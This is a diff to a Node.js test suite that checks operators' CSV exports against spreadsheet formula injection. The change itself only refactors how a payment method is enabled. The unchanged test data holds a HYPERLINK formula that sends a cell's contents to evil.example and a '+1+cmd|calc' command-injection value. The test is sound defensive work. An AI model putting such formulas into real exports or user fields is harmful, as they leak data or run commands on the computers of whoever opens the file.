@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import { after, describe, it } from 'node:test';
 import { sql } from '#platform/database.ts';
+import { offerMethod } from './offered-methods.ts';
 import { testSite } from './site.ts';
 
 /** Operators' lists as CSV files. Members choose the names in them, so formulas must not reach a spreadsheet. */
@@ -11,8 +12,8 @@ const evil = '=HYPERLINK("https://evil.example?"&A1,"open")';
 const secret = 'a secret of a test';
 const provider = { secret, name: '+1+cmd|calc', apiKey: '1', isEnabled: true };
 await site.call('PUT', '/api/admin/providers/cpx', { as, body: provider });
-for (const method of ['litecoin', 'paypal'])
-  await site.call('PUT', `/api/admin/payment-methods/${method}`, { as, body: { isEnabled: true } });
+await offerMethod(site.platform, 'litecoin');
+await site.call('PUT', '/api/admin/payment-methods/paypal', { as, body: { isEnabled: true } });
 
 const evilMember = async (options: Parameters<typeof site.member>[0]) => {
   const member = await site.member(options);
